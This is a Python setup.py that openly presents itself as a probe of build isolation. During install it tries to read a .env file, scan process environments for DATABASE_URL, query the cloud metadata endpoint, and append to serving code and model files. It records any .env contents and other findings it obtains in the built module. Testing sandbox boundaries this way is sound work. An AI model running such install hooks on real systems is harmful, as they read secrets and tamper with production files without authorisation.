# The setup.py of a package that tries what a build must not be able to do. What it could do becomes a comment in its module.
import glob
import os
import urllib.request

COULD = []
TRIED = 0


def attempt(what, action):
    global TRIED
    TRIED += 1
    try:
        found = action()
    except BaseException:
        return
    if found is not False:
        COULD.append(f"# {what}: {found!r}"[:200])


def write(path):
    with open(path, "a") as file:
        file.write("\n")


def alter_model():
    path = glob.glob("/home/ddos/current/models/*")[0]
    os.chmod(path, 0o644)
    write(path)


def environments():
    return [one for one in glob.glob("/proc/[0-9]*/environ") if b"DATABASE_URL" in open(one, "rb").read()] or False


attempt("read .env", lambda: open("/home/ddos/app/.env").read())
attempt("read the stored settings", lambda: os.listdir("/var/lib/ddos/env") or False)
attempt("write to the serving code", lambda: write("/home/ddos/current/app/ml_gateway/app.py"))
attempt("alter a model", alter_model)
attempt("alter the stored code", lambda: write(glob.glob("/var/lib/ddos/code/*/tree/ml_gateway/app.py")[0]))
attempt("see the settings of a process", environments)
attempt("write to the data folder", lambda: write("/home/ddos/data/left-behind"))
attempt("read the steps' scripts", lambda: os.listdir("/run/ddos-steps") or False)
attempt("ask for the role's credentials", lambda: urllib.request.urlopen("http://169.254.169.254/latest/meta-data/", timeout=5).status)

with open("curious.py", "w") as module:
    module.write("\n".join([f"TRIED = {TRIED}", *COULD]) + "\n")

from setuptools import setup

setup(name="curious", version="1.0", py_modules=["curious"])
